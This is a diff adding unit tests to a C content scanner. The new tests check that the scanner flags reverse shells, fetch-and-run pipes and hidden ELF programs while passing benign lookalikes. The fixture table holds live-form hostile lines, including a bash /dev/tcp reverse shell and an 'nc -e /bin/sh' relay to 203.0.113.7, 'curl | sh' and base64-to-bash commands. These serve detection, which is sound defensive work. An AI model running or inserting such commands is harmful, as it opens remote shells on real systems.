@@ -109,6 +109,52 @@ static void what_code_does_and_miners_are_told_from_what_looks_alike(void **stat
 	}
 }
 
+#define HEADER "\177ELF\2\1\1\0\0\0\0\0\0\0\0\0\2\0\76\0\1\0\0\0"
+#define FILLING "................................................................"
+
+static const struct {
+	const char *what, *bytes;
+	size_t len;
+	uint64_t signals;
+} hidden[] = {
+#define ROW(what, text, signals)                                                                   \
+	{                                                                                          \
+		(what), (text), sizeof(text) - 1, (signals)                                        \
+	}
+	ROW("a shell on a connection", "x\nbash -i >& /dev/tcp/203.0.113.7/443 0>&1\n",
+	    SL_SIGNAL_SHELL_CODE),
+	ROW("a relay with a shell", "nc 203.0.113.7 4 -e /bin/sh\n", SL_SIGNAL_SHELL_CODE),
+	ROW("what has another -e", "docker run -e /bin/x\nset -e /bin/sh\n", 0),
+	ROW("what is fetched and run", "while :; do curl -s x | sh; done", SL_SIGNAL_SHELL_CODE),
+	ROW("what is decoded and run", "a\nbase64 -d <b|bash\nc\n", SL_SIGNAL_SHELL_CODE),
+	ROW("in a comment", "  # curl -s x | sh\n", 0),
+	ROW("a port that is waited for", "until >/dev/tcp/db/5432; do sleep 1; done", 0),
+	ROW("a table", "| name | shell |\n| a | bash |\n", 0),
+	ROW("what is fetched and read", "curl -s x | python3 -m json.tool\n", 0),
+	ROW("behind a control character", "\1 curl -s x | sh\n", 0),
+	ROW("a program behind other bytes", FILLING HEADER, SL_SIGNAL_PROGRAM_INSIDE),
+	ROW("in letters", "key=\nf0VMRgIBAQAAAAAA\n", SL_SIGNAL_PROGRAM_INSIDE),
+	ROW("in a program", HEADER FILLING HEADER, 0),
+	ROW("a word about it", FILLING "\177ELF is how it begins, f0VMRgAA in letters", 0),
+	ROW("what is cut off", FILLING "\177ELF\2\1\1\0\0\0\0\0\0\0\0\0\2", 0),
+#undef ROW
+};
+
+static void shells_and_programs_are_told_from_what_looks_alike(void **state)
+{
+	const uint64_t both = SL_SIGNAL_SHELL_CODE | SL_SIGNAL_PROGRAM_INSIDE;
+
+	(void)state;
+	for (size_t i = 0; i < ARRAY_SIZE(hidden); i++)
+		for (size_t step = 1; step < 200; step += 60) {
+			uint64_t found = scan(hidden[i].bytes, hidden[i].len,
+					      step == 1 ? SIZE_MAX / 2 : step);
+
+			if ((found & both) != hidden[i].signals)
+				fail_msg("%s: %#llx", hidden[i].what, (unsigned long long)found);
+		}
+}
+
 static void pieces_of_any_size_say_the_same(void **state)
 {
 	static const char *const said[] = {"<script language=\"php\">", "<\0?\0p\0h\0p\0 \0",
@@ -180,7 +226,8 @@ static void a_search_that_costs_too_much_ends_and_says_so(void **state)
 static void flags_of_a_record_are_signals_again(void **state)
 {
 	const uint64_t all = SL_SIGNAL_SERVER_CODE | SL_SIGNAL_RUNS_INPUT | SL_SIGNAL_MINER |
-			     SL_SIGNAL_PARTLY_SEARCHED;
+			     SL_SIGNAL_PARTLY_SEARCHED | SL_SIGNAL_SHELL_CODE |
+			     SL_SIGNAL_PROGRAM_INSIDE;
 
 	(void)state;
 	assert_true(contentscan_signals(contentscan_flags(all)) == all);
@@ -212,6 +259,7 @@ int main(void)
 {
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(marks_are_told_from_what_looks_alike),
+		cmocka_unit_test(shells_and_programs_are_told_from_what_looks_alike),
 		cmocka_unit_test(pieces_of_any_size_say_the_same),
 		cmocka_unit_test(what_code_does_and_miners_are_told_from_what_looks_alike),
 		cmocka_unit_test(
